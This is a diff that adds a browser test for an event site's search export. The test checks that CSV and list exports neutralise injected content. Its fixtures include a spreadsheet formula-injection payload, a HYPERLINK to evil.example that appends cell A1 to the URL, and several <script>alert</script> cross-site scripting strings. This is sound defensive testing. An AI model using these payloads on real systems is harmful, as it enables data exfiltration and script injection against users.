@@ -197,3 +197,24 @@ test('the table keeps a formula from being reckoned', () => {
 })
 
 const spaced = (text: string) => text.replace(/\s+/g, ' ')
+
+test('what is saved and listed of a search is text, too', async () => {
+  const { page, complaints } = await site.open('search/')
+  await page.getByRole('button', { name: 'Save or print these events' }).click()
+  const ways = page.locator('[data-take-panel]').getByRole('button')
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    ways.filter({ hasText: /^CSV/ }).click(),
+  ])
+  expect(download.suggestedFilename()).toMatch(/^script-alert-archive-script-\d+-events\.csv$/)
+  expect(readFileSync(await download.path(), 'utf8')).toContain(
+    `,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`,
+  )
+  await ways.filter({ hasText: /^List/ }).click()
+  const list = page.locator('.taken-list')
+  await list.waitFor()
+  expect(await list.textContent()).toContain(`<script>alert('title')</script> opens & closes`)
+  expect(await list.textContent()).toContain(`</title><script>alert('source')</script>`)
+  expect(await page.evaluate(strangers)).toEqual([])
+  expect(complaints).toEqual([])
+})
